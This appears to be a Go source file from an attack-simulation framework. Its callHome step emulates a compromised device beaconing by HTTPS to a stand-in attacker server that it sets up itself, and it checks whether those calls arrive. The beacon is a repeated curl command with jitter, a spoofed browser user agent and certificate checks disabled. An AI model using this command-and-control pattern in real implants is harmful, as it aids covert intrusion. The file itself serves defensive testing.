package attack

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"errors"
	"fmt"
	"math/big"
	"net"
	"net/http"
	"sync/atomic"
	"time"
)

const (
	beaconPort = 443
	// beacons are about as many as there are in one run, however long.
	beacons = 12
)

// callHome has a taken-over device report to the attacker's server by HTTPS
// again and again, with jitter, as an implant that waits for orders.
func callHome(ctx context.Context, s *stage) error {
	home, err := s.outside()
	if err != nil {
		return err
	}
	server, err := newHome()
	if err != nil {
		return err
	}
	l, err := home.Listen(ctx, "tcp", fmt.Sprintf("%s:%d", outsideHost, beaconPort))
	if err != nil {
		return err
	}
	s.beside(ctx, func(ctx context.Context) error { return server.serve(ctx, l) })
	return s.step(ctx, "call home", []Selector{s.toOutside("tcp", beaconPort)}, func(ctx context.Context) (string, error) {
		run, cancel := s.bounded(ctx)
		defer cancel()
		every := max(s.duration/beacons, 200*time.Millisecond)
		tried := 0
		for ; run.Err() == nil; pause(run, s.jitter(every)) {
			tried++
			_, err := s.tool(run, "curl", "-sSkf", "-m", "3", "-A", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1)",
				"-d", fmt.Sprintf("id=%08x&seq=%d", s.state.Seed, tried), fmt.Sprintf("https://%s/api/v2/status", outsideHost))
			if run.Err() != nil || err == nil {
				continue
			}
			if server.calls.Load() == 0 && tried >= 3 {
				return fmt.Sprintf("%d tries", tried), err
			}
		}
		n := server.calls.Load()
		if n == 0 {
			return "", errors.New("no call arrived")
		}
		return fmt.Sprintf("%d calls, one each %s", n, every.Round(time.Millisecond)), nil
	})
}

// home is the attacker's server.
type home struct {
	calls  atomic.Int64
	config *tls.Config
}

// newHome makes a server with a certificate that it signed itself.
func newHome() (*home, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	about := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "localhost"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
	}
	der, err := x509.CreateCertificate(rand.Reader, about, about, &key.PublicKey, key)
	if err != nil {
		return nil, err
	}
	return &home{config: &tls.Config{MinVersion: tls.VersionTLS12, Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}}, nil
}

// serve answers each call with no order, until ctx ends.
func (h *home) serve(ctx context.Context, l net.Listener) error {
	server := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		h.calls.Add(1)
		_, _ = w.Write([]byte("sleep\n")) // the implant may have gone
	})}
	stop := context.AfterFunc(ctx, func() { _ = server.Close() })
	defer stop()
	if err := server.Serve(tls.NewListener(l, h.config)); !errors.Is(err, http.ErrServerClosed) {
		return err
	}
	return nil
}
